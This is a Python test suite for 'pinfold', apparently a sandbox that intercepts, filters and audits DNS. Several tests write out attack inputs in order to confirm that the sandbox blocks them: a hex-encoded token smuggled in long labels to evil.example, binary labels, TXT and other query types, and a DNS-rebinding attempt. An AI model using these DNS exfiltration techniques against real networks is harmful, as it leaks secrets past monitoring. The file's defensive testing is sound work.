#!/usr/bin/env python3
"""DNS from the sandbox: every query, to any resolver address, over UDP or
TCP, lands on pinfold's resolver; only names a rule could allow leave the
machine, only A/AAAA/CNAME, and every query is audited. The upstream is a
fake resolver on loopback started by the test (--dns-upstream)."""
import os
import sys
import textwrap

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "lib"))
import fakedns  # noqa: E402
import pftest  # noqa: E402

LIB = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", "lib"))

# Prelude of the sandboxed scripts: one query over UDP to any address,
# printing the rcode, the addresses and who the answer claimed to be from.
PRELUDE = f"""
import socket, struct, sys
sys.path.insert(0, {LIB!r})
import fakedns
def udp_query(server, name, qtype=1, family=None, connect=False, raw_name=None):
    family = family or (socket.AF_INET6 if ":" in server[0] else socket.AF_INET)
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(5)
    q = fakedns.build_query(name, qtype, raw_name=raw_name)
    try:
        if connect:
            s.connect(server)
            s.send(q)
        else:
            s.sendto(q, server)
        data, peer = s.recvfrom(4096)
    except OSError as e:
        return ("ERR", type(e).__name__, None)
    rcode, addrs = fakedns.parse_answer(data)
    return (rcode, addrs, peer[0])
def tcp_query(server, name, qtype=1):
    s = socket.create_connection(server, timeout=5)
    q = fakedns.build_query(name, qtype)
    s.sendall(struct.pack(">H", len(q)) + q)
    n = struct.unpack(">H", s.recv(2))[0]
    data = b""
    while len(data) < n:
        data += s.recv(n - len(data))
    return fakedns.parse_answer(data)
"""

NOERROR, NXDOMAIN, REFUSED = 0, 3, 5


class Dns(pftest.PinfoldTestCase):
    def setUp(self):
        super().setUp()
        self.up = self.server("127.0.0.1")
        self.dns = fakedns.FakeUpstream({
            "allowed.example": ["127.0.0.1", "::1"],
            "api.cdn.example": ["127.0.0.1"],
            "denied.example": ["127.0.0.1"],
        })
        self.servers.append(self.dns)
        self.policy = self.write_policy(f"""
            name: redteam-dns
            rules:
              - name: allowed
                endpoint: http://allowed.example:{self.up.port}/public/**
              - name: cdn
                endpoint: http://*.cdn.example:{self.up.port}/**
        """)

    def run_py(self, code):
        return self.python_in_sandbox(self.policy, PRELUDE + textwrap.dedent(code),
                                      extra=["--dns-upstream", self.dns.address])

    def dns_audit(self, r, **fields):
        return r.audit_where(event="dns", **fields)

    def test_libc_resolution_goes_through_pinfold(self):
        # The sandbox's resolv.conf names the host's resolver; glibc's query
        # to it is steered, answered by pinfold and accepted by glibc.
        r = self.run_py("""
            print(sorted({a[4][0] for a in socket.getaddrinfo("allowed.example", 80, socket.AF_INET)}))
        """)
        self.assertEqual(r.stdout.strip(), "['127.0.0.1']", r.stderr)
        self.assertIn(("allowed.example", 1), self.dns.asked)
        allow = self.dns_audit(r, verdict="allow", host="allowed.example", method="A")
        self.assertTrue(allow, r.audit)

    def test_dns_to_a_non_default_resolver_address_is_answered_by_pinfold(self):
        r = self.run_py("""
            for server in (("192.0.2.53", 53), ("2001:db8::53", 53)):
                print(udp_query(server, "allowed.example"))
            print(udp_query(("::ffff:198.51.100.53", 53), "allowed.example", family=socket.AF_INET6))
            print(udp_query(("203.0.113.53", 53), "allowed.example", connect=True))
        """)
        lines = r.stdout.splitlines()
        self.assertEqual(len(lines), 4, r.stderr)
        # Answered, and the source the client sees is the address it asked.
        self.assertEqual(lines[0], "(0, ['127.0.0.1'], '192.0.2.53')")
        self.assertEqual(lines[1], "(0, ['127.0.0.1'], '2001:db8::53')")
        self.assertEqual(lines[2], "(0, ['127.0.0.1'], '::ffff:198.51.100.53')")
        self.assertEqual(lines[3], "(0, ['127.0.0.1'], '203.0.113.53')")
        self.assertEqual(len(self.dns_audit(r, verdict="allow", host="allowed.example")), 4, r.audit)
        # Nothing was sent anywhere but the configured upstream.
        self.assertEqual(self.dns.asked, [("allowed.example", 1)] * 4)

    def test_dns_exfiltration_by_long_labels_never_leaves(self):
        secret = "73656372657420746f6b656e3a206768705f414243444546".ljust(63, "0")
        r = self.run_py(f"""
            print(udp_query(("192.0.2.53", 53), "{secret}.{secret}.allowed.example"))
            print(udp_query(("192.0.2.53", 53), "{secret}.evil.example"))
        """)
        self.assertEqual(r.stdout.split("\n")[:2], [f"({REFUSED}, [], '192.0.2.53')"] * 2, r.stderr)
        self.assertEqual(self.dns.asked, [])
        deny = self.dns_audit(r, verdict="deny")
        self.assertEqual(len(deny), 2, r.audit)
        self.assertTrue(all("no allow rule" in d["reason"] for d in deny))

    def test_dns_exfiltration_by_binary_labels_is_refused(self):
        r = self.run_py("""
            raw = bytes([5]) + b"\\x00\\x01\\x02\\xff." + fakedns.encode_name("allowed.example")
            print(udp_query(("192.0.2.53", 53), "", raw_name=raw))
        """)
        self.assertIn("(1, [],", r.stdout, r.stderr)   # FORMERR
        self.assertEqual(self.dns.asked, [])
        self.assertTrue([d for d in self.dns_audit(r, verdict="deny") if "malformed" in d["reason"]], r.audit)

    def test_txt_and_other_query_types_are_refused(self):
        r = self.run_py("""
            for qtype in (16, 255, 15, 65, 12):   # TXT, ANY, MX, HTTPS, PTR
                print(udp_query(("192.0.2.53", 53), "allowed.example", qtype)[0])
        """)
        self.assertEqual(r.stdout.split(), [str(REFUSED)] * 5, r.stderr)
        self.assertEqual(self.dns.asked, [])
        methods = [d["method"] for d in self.dns_audit(r, verdict="deny")]
        self.assertEqual(methods, ["TXT", "ANY", "MX", "HTTPS", "PTR"], r.audit)

    def test_resolver_answer_for_a_denied_name(self):
        # The upstream knows denied.example, but no rule names it: the
        # question never reaches the upstream and the sandbox gets REFUSED.
        r = self.run_py("""
            print(udp_query(("192.0.2.53", 53), "denied.example"))
            try:
                socket.getaddrinfo("denied.example", 80)
                print("RESOLVED")
            except socket.gaierror:
                print("FAILED")
        """)
        lines = r.stdout.splitlines()
        self.assertEqual(lines[0], f"({REFUSED}, [], '192.0.2.53')", r.stderr)
        self.assertEqual(lines[1], "FAILED")
        self.assertEqual([n for n, _ in self.dns.asked], [])
        self.assertTrue(self.dns_audit(r, verdict="deny", host="denied.example"), r.audit)

    def test_wildcard_rule_names_resolve_and_unknown_names_are_nxdomain_upstream(self):
        r = self.run_py("""
            print(udp_query(("192.0.2.53", 53), "api.cdn.example")[:2])
            print(udp_query(("192.0.2.53", 53), "gone.cdn.example")[:2])
        """)
        self.assertEqual(r.stdout.splitlines(), ["(0, ['127.0.0.1'])", f"({NXDOMAIN}, [])"], r.stderr)
        self.assertEqual(len(self.dns_audit(r, host="gone.cdn.example", verdict="deny")), 1, r.audit)

    def test_dns_over_tcp_to_any_address_is_steered_and_attributed(self):
        r = self.run_py("""
            print(tcp_query(("192.0.2.53", 53), "allowed.example", 28))
            print(tcp_query(("2001:db8::53", 53), "x" * 60 + ".evil.example"))
        """)
        self.assertEqual(r.stdout.splitlines(), ["(0, ['::1'])", f"({REFUSED}, [])"], r.stderr)
        self.assertEqual(self.dns.asked, [("allowed.example", 28)])
        tcp = self.dns_audit(r)
        self.assertEqual(len(tcp), 2, r.audit)
        # TCP queries carry the kernel's origin record: the querying pid.
        self.assertTrue(all(d["pid"] > 0 for d in tcp), tcp)

    def test_dns_rebinding_is_refused_by_the_host_check(self):
        # pinfold told the sandbox allowed.example is 127.0.0.1 (and ::1);
        # dialling another address under that name is refused even though
        # the proxy's own resolver is never asked.
        other = self.server("127.0.0.2")
        policy = self.write_policy(f"""
            name: rebinding
            rules:
              - name: allowed
                endpoint: http://allowed.example:{self.up.port}/**
              - name: allowed-other
                endpoint: http://allowed.example:{other.port}/**
        """, name="rebinding.yaml")
        code = PRELUDE + textwrap.dedent(f"""
            addr = socket.getaddrinfo("allowed.example", 80, socket.AF_INET)[0][4][0]
            def get(ip, port):
                s = socket.create_connection((ip, port), timeout=5)
                s.sendall(b"GET /public HTTP/1.1\\r\\nHost: allowed.example:%d\\r\\nConnection: close\\r\\n\\r\\n" % port)
                return s.recv(4096).split(b"\\r\\n")[0].decode()
            print(get(addr, {self.up.port}))
            print(get("127.0.0.2", {other.port}))
        """)
        r = self.python_in_sandbox(policy, code, extra=["--dns-upstream", self.dns.address])
        lines = r.stdout.splitlines()
        self.assertEqual(len(lines), 2, r.stderr)
        self.assertIn("200", lines[0])
        self.assertIn("403", lines[1])
        self.assertEqual(len(self.up.requests), 1)
        self.assertEqual(other.requests, [])
        deny = r.audit_where(event="http", verdict="deny")
        self.assertEqual(len(deny), 1, r.audit)
        self.assertIn("is not an address of allowed.example", deny[0]["reason"])

    def test_bad_dns_upstream_flag_touches_nothing(self):
        r = self.pinfold(self.policy, ["true"], extra=["--dns-upstream", "resolver.example:53"])
        self.assertEqual(r.returncode, 2)
        self.assertIn("--dns-upstream", r.stderr)


if __name__ == "__main__":
    pftest.main()
